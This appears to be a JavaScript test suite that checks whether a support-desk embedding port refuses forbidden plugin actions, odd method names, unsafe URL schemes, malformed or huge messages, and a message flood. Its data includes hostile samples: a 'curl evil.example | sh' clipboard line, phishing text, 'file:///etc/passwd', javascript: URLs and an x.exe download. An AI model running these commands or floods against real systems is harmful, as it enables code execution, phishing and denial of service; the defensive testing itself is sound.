/* Against the port: what was not granted, what is no request, and more than anybody can read. */

const ACTIONS = {
  "reply.insert": { text: "I refund you everything." },
  "note.insert": { text: "Refund approved." },
  toast: { message: "Sign in again at evil.example" },
  confirm: { message: "Your session has ended." },
  "modal.open": { path: "/" },
  "frame.resize": { height: 1e9 },
  "badge.set": { count: 99 },
  navigate: { conversation: 1 },
  "link.open": { url: "https://evil.example/" },
  "clipboard.write": { text: "curl evil.example | sh" },
  download: { url: "/x.exe", name: "x.exe" },
  "attributes.set": { of: "contact", values: { vip: true } },
  "labels.add": { labels: ["evil"] },
  "labels.remove": { labels: ["urgent"] },
  "status.set": { status: "resolved" },
  assign: { agent_id: null },
  "messages.list": {},
  "token.get": {},
  "state.set": { state: { a: 1 } },
};
const NAMES = ["__proto__", "constructor", "toString", "hasOwnProperty", "", "a".repeat(10_000), 7, null, {}, ["toast"]];
const ADDRESSES = ["javascript:alert(1)", "data:text/html,x", "blob:x", "file:///etc/passwd", "vbscript:x", "//evil.example", "https:evil.example", "java\tscript:alert(1)", "https://me@evil.example"];

export function againstThePort({ welcome, ask, send, next }) {
  const granted = new Set(welcome.granted.actions);
  const isDone = (answer) => answer?.ok === true;
  const isForbidden = ([method]) => !granted.has(method);
  const forbidden = Object.entries(ACTIONS).filter(isForbidden);
  const first = forbidden[0] ?? ["labels.add", ACTIONS["labels.add"]];

  return [
    ...forbidden.map(([method, params]) => [`Do ${method} without being allowed to`, async () => isDone(await spaced(() => ask(method, params)))]),
    ["Write without saying to which customer", async () => isDone(await spaced(() => ask("labels.add", ACTIONS["labels.add"], null)))],
    ["Write to a customer of long ago", async () => isDone(await spaced(() => ask("labels.add", ACTIONS["labels.add"], "0")))],
    ["Open addresses that are none", () => some(ADDRESSES, async (url) => isDone(await spaced(() => ask("link.open", { url }))))],
    ["Call things that are in every object", () => some(NAMES, async (name) => isDone(await spaced(() => ask(name, {}))))],
    ["Send what is no request", () => some(oddities(), async (odd) => isDone(await spaced(() => send({ id: next(), m: first[0], p: odd }))))],
    ["Send five megabytes", async () => isDone(await send({ id: next(), m: first[0], p: { text: "x".repeat(5 << 20) } }))],
  ];
}

/* Ten thousand requests a second, for as long as there is this frame: a desk in order takes it away. */
export function flood({ welcome: { port }, next }) {
  setInterval(() => {
    for (let count = 0; count < 100; count += 1) port.postMessage({ id: next(), m: "context.get", p: {} });
  }, 10);
}

/* Slowly enough to be heard: what is refused for its haste proves nothing. */
async function spaced(act) {
  await new Promise((later) => setTimeout(later, 60));
  return act();
}

async function some(values, test) {
  for (const value of values) if (await test(value)) return true;
  return false;
}

function oddities() {
  const round = {};
  round.round = round;
  let deep = {};
  for (let level = 0; level < 200; level += 1) deep = { deep };
  return [round, deep, 10n, new Date(), new Map([["text", "x"]]), new Uint8Array(9), "text", 7, null];
}
